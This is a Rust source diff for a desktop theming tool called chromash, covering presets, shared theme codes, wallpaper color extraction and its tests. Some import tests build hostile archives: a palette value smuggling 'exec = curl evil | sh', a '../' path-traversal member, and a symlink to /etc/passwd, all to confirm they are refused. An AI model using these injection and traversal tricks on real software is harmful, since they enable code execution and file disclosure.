+            let wallpaper = metadata.resolve_wallpaper(&preset_dir)
+                .ok_or_else(|| ChromashError::NotFound(format!("Source for preset: {}", name)))?;
+            let (r, g, b) = average_color(&wallpaper, self.config.extraction.quality == config::Quality::Low)?;
+            // The original's name; the bundled copy is always called wallpaper.<ext>
+            let file_name = metadata.wallpaper_path().unwrap_or(wallpaper);
+            (format!("#{:02x}{:02x}{:02x}", r, g, b), file_name.file_name().map(paths::encode))
+        };
+        SharedTheme { version: share::SHARE_VERSION, name: metadata.name, seed, mode: metadata.mode, scheme: metadata.scheme, wallpaper }.encode()
+    }
+    
+    /// Applies a shared theme string, saving it as a preset, and returns the preset name.
+    /// A shared wallpaper is set too if one of that name is in the wallpaper collection.
+    pub fn apply_shared(&mut self, code: &str) -> Result<String> {
+        let shared = SharedTheme::decode(code)?;
+        let seed = &normalize_hex(&shared.seed)?;
+        self.sanitize_name(&shared.name)?;
+        if let Some(file_name) = &shared.wallpaper {
+            match self.list_wallpapers().into_iter().find(|w| w.file_name().is_some_and(|n| paths::encode(n) == *file_name)) {
+                Some(wallpaper) => {
+                    self.apply_wallpaper(Some(&paths::encode(&wallpaper)), false, ThemeOptions::default())?;
+                }
+                None => log::info!("Shared theme was made from wallpaper {}, which isn't in {}", file_name, self.wallpaper_dir().display()),
+            }
+        }
+        let options = ThemeOptions {
+            mode: shared.mode,
+            scheme: shared.scheme,
+            save_preset: true,
+            preset_name: Some(shared.name.clone()),
+            ..ThemeOptions::default()
+        };
+        self.apply_color(seed, options)?;
+        Ok(shared.name)
+    }
+    
+    /// Finds a preset by name and reads its metadata.
+    fn load_preset(&self, name: &str) -> Result<(PathBuf, PresetMetadata)> {
+        let preset_dir = self.get_preset_dir(name)?;
+        let metadata_file = preset_dir.join("metadata.json");
+        
+        if !metadata_file.exists() {
+            return Err(ChromashError::NotFound(format!("Preset metadata for: {}", name)));
+        }
+        
+        let content = fs::read_to_string(&metadata_file)?;
+        let mut metadata = state::parse_preset(&content)?;
+        metadata.system = !preset_dir.starts_with(self.presets_dir());
+        Ok((preset_dir, metadata))
+    }
+    
+    /// Like `load_preset`, but refuses read-only system presets.
+    fn load_user_preset(&self, name: &str) -> Result<(PathBuf, PresetMetadata)> {
+        let (preset_dir, metadata) = self.load_preset(name)?;
+        if metadata.system {
+            return Err(ChromashError::General(format!(
+                "Preset {} is a read-only system preset; save a copy with preset save first", name)));
+        }
+        Ok((preset_dir, metadata))
+    }
+    
+    fn write_preset_metadata(&self, preset_dir: &Path, metadata: &PresetMetadata) -> Result<()> {
+        let content = serde_json::to_string_pretty(metadata)?;
+        write_atomic(&preset_dir.join("metadata.json"), content)?;
+        Ok(())
+    }
+    
+    fn get_preset_dir(&self, name: &str) -> Result<PathBuf> {
+        let sanitized_dir = self.presets_dir().join(self.sanitize_name(name)?);
+        if sanitized_dir.exists() {
+            return Ok(sanitized_dir);
+        }
+        
+        for preset in self.list_presets()? {
+            if preset.name == name {
+                let dir = self.presets_dir().join(self.sanitize_name(&preset.name)?);
+                if dir.exists() {
+                    return Ok(dir);
+                }
+            }
+        }
+        for system_dir in Config::system_presets_dirs() {
+            let dir = system_dir.join(self.sanitize_name(name)?);
+            if dir.join("metadata.json").is_file() {
+                return Ok(dir);
+            }
+        }
+        Err(ChromashError::NotFound(format!("Preset directory for: {}", name)))
+    }
+    
+    /// Directory name of the preset `name`. Names with nothing usable in them are refused,
+    /// as they would point at the presets directory itself.
+    fn sanitize_name(&self, name: &str) -> Result<String> {
+        let dir_name = name.chars()
+            .filter(|c| c.is_alphanumeric() || *c == '_' || *c == '-' || *c == ' ')
+            .collect::<String>()
+            .replace(' ', "_");
+        if dir_name.is_empty() {
+            return Err(ChromashError::Usage(format!(
+                "Invalid preset name: {:?} (use letters, digits, spaces, - or _)", name)));
+        }
+        Ok(dir_name)
+    }
+}
+
+/// Number of previous versions kept per preset.
+const PRESET_HISTORY_LIMIT: usize = 10;
+
+/// `file` as a path inside a preset directory, if it is a single plain file name.
+fn bundled_file(file: &str) -> Option<PathBuf> {
+    let path = paths::decode(file);
+    let mut components = path.components();
+    match (components.next(), components.next()) {
+        (Some(Component::Normal(_)), None) => Some(path),
+        _ => None,
+    }
+}
+
+const IMAGE_EXTENSIONS: [&str; 6] = ["png", "jpg", "jpeg", "gif", "bmp", "webp"];
+
+fn is_image(path: &Path) -> bool {
+    path.extension()
+        .and_then(|s| s.to_str())
+        .is_some_and(|ext| IMAGE_EXTENSIONS.contains(&ext.to_lowercase().as_str()))
+}
+
+fn first_image_in(dir: &Path) -> Result<Option<PathBuf>> {
+    if dir.is_dir() {
+        for entry in fs::read_dir(dir)? {
+            let entry = entry?;
+            if entry.file_type()?.is_file() && is_image(&entry.path()) {
+                return Ok(Some(entry.path()));
+            }
+        }
+    }
+    Ok(None)
+}
+
+fn collect_images(dir: &Path, found: &mut Vec<PathBuf>) {
+    let Ok(entries) = fs::read_dir(dir) else { return };
+    for entry in entries.flatten() {
+        let path = entry.path();
+        if path.is_dir() {
+            collect_images(&path, found);
+        } else if is_image(&path) {
+            found.push(path);
+        }
+    }
+}
+
+/// Creates an empty per-process working directory under the system temp dir.
+fn scratch_dir(purpose: &str) -> Result<PathBuf> {
+    let dir = env::temp_dir().join(format!("chromash-{}-{}", purpose, std::process::id()));
+    if dir.exists() {
+        fs::remove_dir_all(&dir)?;
+    }
+    fs::create_dir_all(&dir)?;
+    Ok(dir)
+}
+
+/// Replaces `path` with `contents` through a temporary file and a rename, so readers and
+/// crashes never see a half-written file. Symlinks are followed, so dotfile managers keep
+/// their links, and the existing file's permissions are kept.
+fn write_atomic(path: &Path, contents: impl AsRef<[u8]>) -> Result<()> {
+    let target = fs::canonicalize(path).unwrap_or_else(|_| path.to_path_buf());
+    let file_name = target.file_name()
+        .ok_or_else(|| ChromashError::General(format!("Not a file path: {}", path.display())))?;
+    let mut temp_name = std::ffi::OsString::from(".");
+    temp_name.push(file_name);
+    temp_name.push(format!(".chromash-{}", std::process::id()));
+    let temp = target.with_file_name(temp_name);
+    let result = (|| {
+        let mut file = fs::File::create(&temp)?;
+        file.write_all(contents.as_ref())?;
+        if let Ok(metadata) = fs::metadata(&target) {
+            file.set_permissions(metadata.permissions())?;
+        }
+        file.sync_all()?;
+        fs::rename(&temp, &target)
+    })();
+    if result.is_err() {
+        let _ = fs::remove_file(&temp);
+    }
+    Ok(result?)
+}
+
+/// True for regular files only, so symlinks smuggled into archives are ignored.
+fn is_regular_file(path: &Path) -> bool {
+    fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_file())
+}
+
+/// Schemes `random-theme` picks from; monochrome is left out for having no color.
+const RANDOM_SCHEMES: [SchemeType; 7] = [
+    SchemeType::Content, SchemeType::Expressive, SchemeType::Fidelity, SchemeType::FruitSalad,
+    SchemeType::Neutral, SchemeType::Rainbow, SchemeType::TonalSpot,
+];
+
+/// splitmix64, so a seed gives the same theme on every machine and version.
+struct SplitMix(u64);
+
+impl SplitMix {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        z ^ (z >> 31)
+    }
+
+    /// Uniform in `low..high`.
+    fn range(&mut self, low: f64, high: f64) -> f64 {
+        low + (self.next() >> 11) as f64 / (1u64 << 53) as f64 * (high - low)
+    }
+}
+
+/// A seed color (`rrggbb`) and scheme drawn from `seed`: any hue, but chroma and lightness
+/// kept where palettes come out balanced rather than muddy or neon.
+fn random_theme(seed: u64) -> (String, SchemeType) {
+    let mut rng = SplitMix(seed);
+    let [r, g, b] = generator::tone_color(rng.range(0.0, 360.0), rng.range(35.0, 70.0), rng.range(45.0, 65.0));
+    let scheme = RANDOM_SCHEMES[(rng.next() % RANDOM_SCHEMES.len() as u64) as usize];
+    (format!("{:02x}{:02x}{:02x}", r, g, b), scheme)
+}
+
+fn random_u64() -> u64 {
+    use std::hash::{BuildHasher, Hasher};
+    // RandomState is seeded randomly per process, which is plenty for picking presets and wallpapers
+    let mut hasher = std::collections::hash_map::RandomState::new().build_hasher();
+    hasher.write_u128(SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default().as_nanos());
+    hasher.finish()
+}
+
+/// Identifies a generator run by its inputs, hashing the image's contents rather than its
+/// path so an edited wallpaper isn't served a stale palette. `None` if the image can't be read.
+fn palette_cache_key(generator: &str, seed: &Seed, mode: ColorMode, scheme: SchemeType, contrast: Option<f64>) -> Option<String> {
+    use std::hash::{DefaultHasher, Hash, Hasher};
+    let mut hasher = DefaultHasher::new();
+    match seed {
+        Seed::Image(path) => fs::read(path).ok()?.hash(&mut hasher),
+        seed => seed.matugen_args().hash(&mut hasher),
+    }
+    (mode.as_str(), scheme.as_str(), contrast.map(f64::to_bits)).hash(&mut hasher);
+    // Left out for matugen, so palettes cached before generators were pluggable still count
+    if generator != "matugen" {
+        generator.hash(&mut hasher);
+    }
+    Some(format!("{:016x}", hasher.finish()))
+}
+
+fn format_timestamp(timestamp: u64) -> String {
+    chrono::DateTime::from_timestamp(timestamp as i64, 0)
+        .map(|utc| utc.with_timezone(&chrono::Local).format("%Y-%m-%d %H:%M").to_string())
+        .unwrap_or_else(|| timestamp.to_string())
+}
+
+/// Error for an unrecognized name, suggesting the closest known one.
+fn unknown_value(kind: &str, value: &str, known: &[&str]) -> ChromashError {
+    match fuzzy::closest(value, known.iter().copied()) {
+        Some(closest) => ChromashError::Usage(format!("Unknown {}: {} (did you mean {}?)", kind, value, closest)),
+        None => ChromashError::Usage(format!("Unknown {}: {} (expected one of: {})", kind, value, known.join(", "))),
+    }
+}
+
+/// Checks a hex color given as `rgb`, `rrggbb` or `rrggbbaa`, with or without `#`, and
+/// returns it as lowercase `rrggbb`. Alpha is dropped; matugen only takes opaque colors.
+fn normalize_hex(input: &str) -> Result<String> {
+    let hex = input.trim();
+    let hex = hex.strip_prefix('#').unwrap_or(hex);
+    if !hex.chars().all(|c| c.is_ascii_hexdigit()) || ![3, 6, 8].contains(&hex.len()) {
+        return Err(ChromashError::Usage(format!(
+            "Invalid hex color: {} (expected 3, 6 or 8 hex digits, e.g. 6750a4, #6750a4, #f0a or #6750a4ff)", input)));
+    }
+    let hex = hex.to_ascii_lowercase();
+    Ok(match hex.len() {
+        3 => hex.chars().flat_map(|c| [c, c]).collect(),
+        _ => hex[..6].to_string(),
+    })
+}
+
+/// Seed for images without a color that stands out.
+const FALLBACK_SEED: [u8; 3] = [128, 128, 128];
+/// How many of an image's seed candidates are kept in the cache and explained.
+const SEED_CANDIDATES: usize = 5;
+
+/// The color a wallpaper themes with: the best of its `seed_candidates`.
+fn average_color(path: &Path, fast: bool) -> Result<(u8, u8, u8)> {
+    let [r, g, b] = seed_candidates(path, fast)?.first().map_or(FALLBACK_SEED, |(color, _)| *color);
+    Ok((r, g, b))
+}
+
+/// A wallpaper's colors with their scores, best first: frequent colors score higher, and
+/// saturated, mid-lightness ones over greys and near-black or near-white areas.
+fn seed_candidates(path: &Path, fast: bool) -> Result<Vec<([u8; 3], f64)>> {
+    let spinner = progress::spinner(format!("Reading {}", path.file_name().unwrap_or_default().to_string_lossy()));
+    let decoded = ImageReader::open(path)?.with_guessed_format()?.decode();
+    spinner.finish_and_clear();
+    let img = decoded.map_err(|e| ChromashError::General(format!("Failed to decode: {}", e)))?;
+        
+    let (width, height) = img.dimensions();
+    let step = if fast { 2 } else { 1 };
+    let resized_img = if fast {
+        img.thumbnail(64, 64)
+    } else if width > 128 || height > 128 {
+        let scale = 128.0 / width.max(height) as f64;
+        let new_w = (width as f64 * scale).round().max(1.0) as u32;
+        let new_h = (height as f64 * scale).round().max(1.0) as u32;
+        img.resize_exact(new_w, new_h, FilterType::CatmullRom)
+    } else {
+        img
+    };
+    
+    let rgb_img = resized_img.into_rgb8();
+    let mut color_counts: HashMap<[u8; 3], u32> = HashMap::new();
+    
+    for (_, _, pixel) in rgb_img.enumerate_pixels().filter(|(x, y, _)| x % step == 0 && y % step == 0) {
+        let quantized = [(pixel[0] / 16) * 16, (pixel[1] / 16) * 16, (pixel[2] / 16) * 16];
+        *color_counts.entry(quantized).or_insert(0) += 1;
+    }
+    
+    let mut candidates = Vec::new();
+    for (&color, &count) in &color_counts {
+        let [r, g, b] = color;
+        let chroma = r.max(g).max(b) - r.min(g).min(b);
+        let lightness = (r as u32 + g as u32 + b as u32) / 3;
+        
+        let chroma_score = if chroma > 30 { 1.0 } else { chroma as f64 / 30.0 };
+        let lightness_score = if lightness > 50 && lightness < 200 { 1.0 } else { 0.5 };
+        let frequency_score = (count as f64).ln();
+        
+        let total_score = chroma_score * lightness_score * frequency_score;
+        if total_score > 0.0 {
+            candidates.push((color, total_score));
+        }
+    }
+    candidates.sort_by(|(a, a_score), (b, b_score)| b_score.total_cmp(a_score).then(a.cmp(b)));
+    Ok(candidates)
+}
+
+/// Rotates the hue of `rgb` by `hue_shift` degrees, then shifts it toward orange (positive
+/// `warmth`) or blue (negative), like a white balance slider from -50 to 50.
+fn adjust_seed(rgb: [u8; 3], warmth: f64, hue_shift: f64) -> [u8; 3] {
+    let [mut r, mut g, mut b] = rgb.map(|c| c as f64 / 255.0);
+    let (max, min) = (r.max(g).max(b), r.min(g).min(b));
+    let chroma = max - min;
+    if hue_shift.rem_euclid(360.0) != 0.0 && chroma > 0.0 {
+        let hue = if max == r {
+            ((g - b) / chroma).rem_euclid(6.0)
+        } else if max == g {
+            (b - r) / chroma + 2.0
+        } else {
+            (r - g) / chroma + 4.0
+        };
+        // Same chroma and lightness, so only the hue moves
+        let hue = (hue + hue_shift / 60.0).rem_euclid(6.0);
+        let x = chroma * (1.0 - (hue % 2.0 - 1.0).abs());
+        let (r1, g1, b1) = match hue as u32 {
+            0 => (chroma, x, 0.0),
+            1 => (x, chroma, 0.0),
+            2 => (0.0, chroma, x),
+            3 => (0.0, x, chroma),
+            4 => (x, 0.0, chroma),
+            _ => (chroma, 0.0, x),
+        };
+        let m = (max + min) / 2.0 - chroma / 2.0;
+        (r, g, b) = (r1 + m, g1 + m, b1 + m);
+    }
+    let shift = warmth.clamp(-50.0, 50.0) / 50.0 * 0.15;
+    [r + shift, g + shift / 3.0, b - shift].map(|c| (c.clamp(0.0, 1.0) * 255.0).round() as u8)
+}
+
+/// Splits a command line into arguments like a shell would: single quotes keep everything,
+/// double quotes everything but `\"` and `\\`, and a backslash outside quotes escapes any
+/// character.
+fn split_command_line(line: &str) -> Vec<String> {
+    let mut args = Vec::new();
+    let mut current = String::new();
+    let mut quote = None;
+    let mut in_arg = false;
+    let mut chars = line.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some('"'), '\\') if matches!(chars.peek(), Some('"' | '\\')) => current.extend(chars.next()),
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), c) => current.push(c),
+            (None, '"' | '\'') => {
+                quote = Some(c);
+                in_arg = true;
+            }
+            (None, '\\') => {
+                // A trailing backslash is kept rather than dropped
+                current.push(chars.next().unwrap_or('\\'));
+                in_arg = true;
+            }
+            (None, c) if c.is_whitespace() => {
+                if in_arg {
+                    args.push(std::mem::take(&mut current));
+                    in_arg = false;
+                }
+            }
+            (None, c) => {
+                current.push(c);
+                in_arg = true;
+            }
+        }
+    }
+    if in_arg {
+        args.push(current);
+    }
+    args
+}
+
+/// Asks a yes/no question on stdin; anything but "y"/"yes" (including EOF) is a no.
+fn confirm(question: &str) -> bool {
+    use std::io::Write;
+    print!("{} [y/N] ", question);
+    let _ = std::io::stdout().flush();
+    let mut answer = String::new();
+    if std::io::stdin().read_line(&mut answer).is_err() {
+        return false;
+    }
+    matches!(answer.trim().to_lowercase().as_str(), "y" | "yes")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::sync::Mutex;
+
+    /// Tests that change the environment, here and in other modules, take turns.
+    pub(crate) static ENV: Mutex<()> = Mutex::new(());
+
+    /// An API living in a fresh temporary home, with the native generator, feh and a
+    /// template whose post hook runs `reload-test`, recording what it runs.
+    fn recorded_api(name: &str) -> (ChromashApi, command::Recorder) {
+        let home = env::temp_dir().join(format!("chromash-test-{}-{}", std::process::id(), name));
+        let _ = fs::remove_dir_all(&home);
+        fs::create_dir_all(home.join(".config/chromash")).unwrap();
+        fs::create_dir_all(home.join(".config/matugen")).unwrap();
+        fs::write(home.join(".config/chromash/config.toml"), "generator = \"native\"\nbackend = \"feh\"\n").unwrap();
+        fs::write(home.join("colors.in"), "{{colors.primary.default.hex}}\n").unwrap();
+        fs::write(home.join(".config/matugen/config.toml"), format!(
+            "[templates.test]\ninput_path = \"{0}/colors.in\"\noutput_path = \"{0}/colors.out\"\npost_hook = \"reload-test\"\n",
+            home.display())).unwrap();
+        env::set_var("HOME", &home);
+        for name in ["CHROMASH_CONFIG_DIR", "CHROMASH_BACKEND", "CHROMASH_SANDBOX", "XDG_STATE_HOME", "XDG_CACHE_HOME",
+                     "XDG_PICTURES_DIR", "HYPRLAND_INSTANCE_SIGNATURE", "SWAYSOCK", "WAYLAND_DISPLAY", "DISPLAY"] {
+            env::remove_var(name);
+        }
+        let recorder = command::Recorder::default();
+        let mut api = ChromashApi::new().unwrap();
+        api.set_runner(recorder.clone());
+        (api, recorder)
+    }
+
+    #[test]
+    fn apply_color_runs_hooks_through_the_runner() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (mut api, recorder) = recorded_api("color");
+        assert!(api.apply_color("#6750a4", ThemeOptions::default()).unwrap());
+        assert_eq!(recorder.calls(), ["sh -c reload-test"]);
+        assert!(Config::home().join("colors.out").is_file());
+    }
+
+    #[test]
+    fn sandbox_skips_post_hooks() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (mut api, recorder) = recorded_api("sandbox");
+        env::set_var("CHROMASH_SANDBOX", Config::home());
+        let applied = api.apply_color("#6750a4", ThemeOptions::default());
+        env::remove_var("CHROMASH_SANDBOX");
+        assert!(applied.unwrap());
+        assert!(recorder.calls().is_empty(), "{:?}", recorder.calls());
+        assert!(Config::home().join("colors.out").is_file());
+    }
+
+    #[test]
+    fn sandbox_skips_templates_outside_it() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (mut api, recorder) = recorded_api("sandbox-outside");
+        env::set_var("CHROMASH_SANDBOX", Config::home().join("root"));
+        let applied = api.apply_color("#6750a4", ThemeOptions::default());
+        env::remove_var("CHROMASH_SANDBOX");
+        assert!(applied.unwrap());
+        assert!(!Config::home().join("colors.out").exists());
+        assert!(recorder.calls().is_empty(), "{:?}", recorder.calls());
+    }
+
+    #[test]
+    fn apply_wallpaper_shows_it_with_the_backend() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (mut api, recorder) = recorded_api("wallpaper");
+        let wallpaper = Config::home().join("forest.png");
+        image::RgbImage::from_pixel(16, 16, image::Rgb([30, 110, 60])).save(&wallpaper).unwrap();
+        assert!(api.apply_wallpaper(Some(&wallpaper.to_string_lossy()), true, ThemeOptions::default()).unwrap());
+        let shown = api.hyprpaper_dir().join("forest.png");
+        let calls = recorder.calls();
+        assert!(calls.contains(&format!("feh --no-fehbg --bg-fill {}", shown.display())), "{:?}", calls);
+        assert!(calls.contains(&"sh -c reload-test".to_string()), "{:?}", calls);
+        assert_eq!(api.current_wallpaper().unwrap(), Some(shown));
+    }
+
+    #[test]
+    fn normalize_hex_accepts_short_long_and_alpha_forms() {
+        assert_eq!(normalize_hex("#abc").unwrap(), "aabbcc");
+        assert_eq!(normalize_hex("ABC").unwrap(), "aabbcc");
+        assert_eq!(normalize_hex("abcdef").unwrap(), "abcdef");
+        assert_eq!(normalize_hex("#AABBCC80").unwrap(), "aabbcc");
+        assert!(normalize_hex("#ggg").is_err());
+        assert!(normalize_hex("#abcd").is_err());
+    }
+
+    #[test]
+    fn invalid_arguments_are_usage_errors() {
+        assert_eq!(normalize_hex("#ggg").unwrap_err().exit_code(), 5);
+        let unknown = unknown_value("scheme", "tonal-sopt", &["tonal-spot", "content"]);
+        assert_eq!(unknown.exit_code(), 5);
+        assert!(unknown.to_string().contains("did you mean tonal-spot?"), "{}", unknown);
+    }
+
+    #[test]
+    fn random_theme_is_reproducible_from_its_seed() {
+        let theme = |seed| {
+            let (color, scheme) = random_theme(seed);
+            (color, scheme.as_str())
+        };
+        assert_eq!(theme(42), theme(42));
+        assert_ne!(theme(42), theme(43));
+        let (color, scheme) = theme(0);
+        assert!(normalize_hex(&color).is_ok_and(|hex| hex == color));
+        assert!(RANDOM_SCHEMES.iter().any(|s| s.as_str() == scheme));
+    }
+
+    #[test]
+    fn adjust_seed_shifts_hue_and_warmth() {
+        assert_eq!(adjust_seed([103, 80, 164], 0.0, 0.0), [103, 80, 164]);
+        assert_eq!(adjust_seed([103, 80, 164], 0.0, 360.0), [103, 80, 164]);
+        assert_eq!(adjust_seed([255, 0, 0], 0.0, 120.0), [0, 255, 0]);
+        assert_eq!(adjust_seed([255, 0, 0], 0.0, -120.0), [0, 0, 255]);
+        let [r, g, b] = adjust_seed([128, 128, 128], 50.0, 0.0);
+        assert!(r > g && g > b, "{:?}", [r, g, b]);
+        let [r, g, b] = adjust_seed([128, 128, 128], -50.0, 0.0);
+        assert!(r < g && g < b, "{:?}", [r, g, b]);
+        // Warmth is clamped to the slider's range
+        assert_eq!(adjust_seed([128, 128, 128], 500.0, 0.0), adjust_seed([128, 128, 128], 50.0, 0.0));
+    }
+
+    /// A `.chromash` archive in the current test home holding `files` (name, contents).
+    fn archive_of(name: &str, files: &[(&str, &str)]) -> PathBuf {
+        let staging = Config::home().join(format!("{}-staging", name));
+        fs::create_dir_all(&staging).unwrap();
+        for (file, contents) in files {
+            fs::write(staging.join(file), contents).unwrap();
+        }
+        let archive = Config::home().join(format!("{}.chromash", name));
+        archive::create(&staging, &archive, &command::System).unwrap();
+        archive
+    }
+
+    #[test]
+    fn import_refuses_palettes_that_are_not_hex() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (mut api, _) = recorded_api("import-palette");
+        api.set_runner(command::System);
+        let archive = archive_of("evil", &[
+            ("metadata.json", r#"{"name": "evil", "source": null}"#),
+            ("palette.json", r##"{"colors": {"dark": {"primary": "#ffffff\nexec = curl evil | sh"}}}"##),
+        ]);
+        assert!(api.import_preset(&archive, false).is_err());
+        assert!(!api.presets_dir().join("evil").exists());
+
+        let archive = archive_of("fine", &[
+            ("metadata.json", r#"{"name": "fine", "source": null}"#),
+            ("palette.json", r##"{"colors": {"dark": {"primary": "#d0bcff"}}}"##),
+        ]);
+        assert_eq!(api.import_preset(&archive, false).unwrap(), "fine");
+        assert!(api.presets_dir().join("fine/palette.json").is_file());
+    }
+
+    /// Packs `members` of `dir` with tar itself, for archives `archive::create` never makes.
+    fn raw_archive(dir: &Path, members: &[&str]) -> PathBuf {
+        let archive = dir.with_extension("chromash");
+        let status = std::process::Command::new("tar")
+            .arg("-czPf").arg(&archive).arg("-C").arg(dir).args(members)
+            .status().unwrap();
+        assert!(status.success());
+        archive
+    }
+
+    #[test]
+    fn import_refuses_escaping_paths_and_links() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (mut api, _) = recorded_api("import-unsafe");
+        api.set_runner(command::System);
+        let home = Config::home();
+        let metadata = r#"{"name": "unsafe", "source": null}"#;
+        let [escaping, symlinked, hardlinked] = ["escaping", "symlinked", "hardlinked"].map(|name| {
+            let dir = home.join(name);
+            fs::create_dir_all(&dir).unwrap();
+            fs::write(dir.join("metadata.json"), metadata).unwrap();
+            dir
+        });
+        // Unpacked into the scratch directory, `../` lands straight in the temp directory
+        let escaped = format!("chromash-escaped-{}", std::process::id());
+        fs::write(home.join(&escaped), "outside").unwrap();
+        std::os::unix::fs::symlink("/etc/passwd", symlinked.join("thumbnail.png")).unwrap();
+        fs::hard_link(hardlinked.join("metadata.json"), hardlinked.join("palette.json")).unwrap();
+
+        for archive in [
+            raw_archive(&escaping, &["metadata.json", &format!("../{}", escaped)]),
+            raw_archive(&symlinked, &["metadata.json", "thumbnail.png"]),
+            raw_archive(&hardlinked, &["metadata.json", "palette.json"]),
+        ] {
+            assert!(api.import_preset(&archive, false).is_err(), "{}", archive.display());
+            assert!(!api.presets_dir().join("unsafe").exists(), "{}", archive.display());
+        }
+        assert!(!env::temp_dir().join(&escaped).exists());
+    }
+
+    #[test]
+    fn preset_names_without_usable_characters_are_refused() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (mut api, _) = recorded_api("preset-names");
+        let shared = share::SharedTheme {
+            version: share::SHARE_VERSION,
+            name: "!!!".into(),
+            seed: "#6750a4".into(),
+            mode: None,
+            scheme: None,
+            wallpaper: None,
+        };
+        let refused = api.apply_shared(&shared.encode().unwrap()).unwrap_err();
+        assert_eq!(refused.exit_code(), 5);
+        assert!(!api.presets_dir().join("metadata.json").exists());
+
+        assert!(api.save_preset("cozy", Some("color_6750a4".into()), None, &ThemeOptions::default()).unwrap());
+        assert!(api.save_preset("!!!", None, None, &ThemeOptions::default()).is_err());
+        assert!(api.rename_preset("cozy", "///").is_err());
+        assert!(api.delete_preset("!!!").is_err());
+        assert!(api.presets_dir().join("cozy/metadata.json").is_file());
+    }
+
+    #[test]
+    fn imports_run_tar_and_curl_through_the_runner() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (api, recorder) = recorded_api("import-recorded");
+        let archive = Config::home().join("cozy.chromash");
+        // The recorder unpacks nothing, so there is no metadata to install
+        assert!(api.import_preset(&archive, false).is_err());
+        assert_eq!(recorder.calls()[0], format!("tar -tzf {}", archive.display()));
+        assert!(recorder.calls().iter().any(|c| c.starts_with("tar -xzf")), "{:?}", recorder.calls());
+
+        assert!(api.import_preset_url("https://example.com/cozy.chromash", false).is_err());
+        let calls = recorder.calls();
+        let curl = calls.iter().find(|c| c.starts_with("curl ")).expect("curl was not run");
+        assert!(curl.ends_with(" https://example.com/cozy.chromash"), "{}", curl);
+    }
+
+    #[test]
+    fn split_command_line_honors_quotes_and_escapes() {
+        assert_eq!(split_command_line("  preset apply   cozy "), ["preset", "apply", "cozy"]);
+        assert_eq!(split_command_line(r#"wallpaper "~/My Walls/a.png""#), ["wallpaper", "~/My Walls/a.png"]);
+        assert_eq!(split_command_line(r#"say 'it''s' "" ''"#), ["say", "its", "", ""]);
+        assert_eq!(split_command_line(r#"echo 'a "b"' "c 'd'""#), ["echo", r#"a "b""#, "c 'd'"]);
+        assert_eq!(split_command_line(r"wallpaper My\ Walls/a.png"), ["wallpaper", "My Walls/a.png"]);
+        assert_eq!(split_command_line(r#"echo "say \"hi\" \\ \n" '\n'"#), ["echo", r#"say "hi" \ \n"#, r"\n"]);
+        assert_eq!(split_command_line(r"trailing\"), [r"trailing\"]);
+        assert!(split_command_line("   ").is_empty());
+    }
+
+    #[test]
+    fn closest_preset_suggests_near_names_only() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (api, _) = recorded_api("closest-preset");
+        for name in ["cozy", "calm", "ocean breeze"] {
+            api.save_preset(name, Some("color_6750a4".into()), None, &ThemeOptions::default()).unwrap();
+        }
+        assert_eq!(api.closest_preset("cozzy").unwrap().as_deref(), Some("cozy"));
+        assert_eq!(api.closest_preset("Calm").unwrap().as_deref(), Some("calm"));
+        assert_eq!(api.closest_preset("ocean-breze").unwrap().as_deref(), Some("ocean breeze"));
+        assert_eq!(api.closest_preset("forest").unwrap(), None);
+    }
+
+    /// Source of the applied theme, e.g. `color_6750a4`.
+    fn current_source(api: &ChromashApi) -> String {
+        api.load_current_theme().unwrap().unwrap().source
+    }
+
+    #[test]
+    fn undo_steps_back_through_history() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (mut api, _) = recorded_api("undo");
+        assert!(matches!(api.undo(), Err(ChromashError::NotFound(_))));
+        for color in ["6750a4", "1e1e2e", "ff7a00"] {
+            api.apply_color(color, ThemeOptions::default()).unwrap();
+        }
+        assert_eq!(api.undo().unwrap().source, "color_1e1e2e");
+        assert_eq!(current_source(&api), "color_1e1e2e");
+        assert_eq!(api.undo().unwrap().source, "color_6750a4");
+        assert_eq!(current_source(&api), "color_6750a4");
+        assert!(matches!(api.undo(), Err(ChromashError::NotFound(_))));
+    }
+
+    #[test]
+    fn redo_replays_undone_themes_until_a_new_apply() {
+        let _env = ENV.lock().unwrap_or_else(|e| e.into_inner());
+        let (mut api, _) = recorded_api("redo");
+        assert!(matches!(api.redo(), Err(ChromashError::NotFound(_))));
+        for color in ["6750a4", "1e1e2e", "ff7a00"] {
+            api.apply_color(color, ThemeOptions::default()).unwrap();
+        }
+        api.undo().unwrap();
+        api.undo().unwrap();
+        assert_eq!(api.redo().unwrap().source, "color_1e1e2e");
+        assert_eq!(current_source(&api), "color_1e1e2e");
+        // Undo after a redo goes back to where the redo started
+        assert_eq!(api.undo().unwrap().source, "color_6750a4");
+        assert_eq!(api.redo().unwrap().source, "color_1e1e2e");
+        assert_eq!(api.redo().unwrap().source, "color_ff7a00");
+        assert!(matches!(api.redo(), Err(ChromashError::NotFound(_))));
+
+        // A new theme starts a new branch, dropping what was undone
+        api.undo().unwrap();
+        api.apply_color("00ff88", ThemeOptions::default()).unwrap();
+        assert!(matches!(api.redo(), Err(ChromashError::NotFound(_))));
+        assert_eq!(api.undo().unwrap().source, "color_1e1e2e");
+    }
+}